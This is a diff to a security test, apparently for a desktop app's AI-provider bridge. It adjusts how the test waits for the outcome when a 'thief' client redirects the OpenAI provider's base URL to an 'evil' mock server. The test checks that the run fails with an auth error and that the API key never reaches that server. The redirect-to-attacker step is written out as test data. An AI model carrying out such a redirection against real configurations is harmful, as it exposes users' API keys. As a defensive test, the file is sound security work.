@@ -200,14 +200,19 @@ describe.skipIf(NEU_BIN === undefined || !existsSync(NEU_BIN))('the real Neutral
       const before = createHash('sha256').update(readFileSync(dbFile())).digest('hex');
       ok(await thief.request('update_provider', { provider: 'openai', baseURL: `${evil.url}/v1` }));
       ok(await thief.request('list_models'));
-      const { executionId } = ok<{ executionId: string }>(await thief.request('call_ai_provider', { provider: 'openai', request: { model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'hi' }] } }));
-      const error = await new Promise<{ code: string }>((resolve) => {
-        const off = thief.on((event, data) => {
-          const d = data as { executionId?: string; error?: { code: string } };
-          if (event === EVENTS.error && d.executionId === executionId) (off(), resolve(d.error ?? { code: '?' }));
-          if (event === EVENTS.done && d.executionId === executionId) (off(), resolve({ code: 'done' }));
-        });
+      // Listening before the request: a refusal can end the run before its reply arrives (the
+      // window's client keeps such early events too, api/client.ts).
+      const ends = new Map<string, { code: string }>();
+      const off = thief.on((event, data) => {
+        const d = data as { executionId?: string; error?: { code: string } };
+        if (d.executionId === undefined) return;
+        if (event === EVENTS.error) ends.set(d.executionId, d.error ?? { code: '?' });
+        if (event === EVENTS.done) ends.set(d.executionId, { code: 'done' });
       });
+      const { executionId } = ok<{ executionId: string }>(await thief.request('call_ai_provider', { provider: 'openai', request: { model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'hi' }] } }));
+      await expect.poll(() => ends.has(executionId), { timeout: 30_000 }).toBe(true);
+      off();
+      const error = ends.get(executionId) ?? { code: '?' };
       expect(error.code).toBe('auth');
       expect(JSON.stringify(evil.requests.map((r) => r.headers))).not.toContain(KEY);
       expect(before).toMatch(/^[0-9a-f]{64}$/);
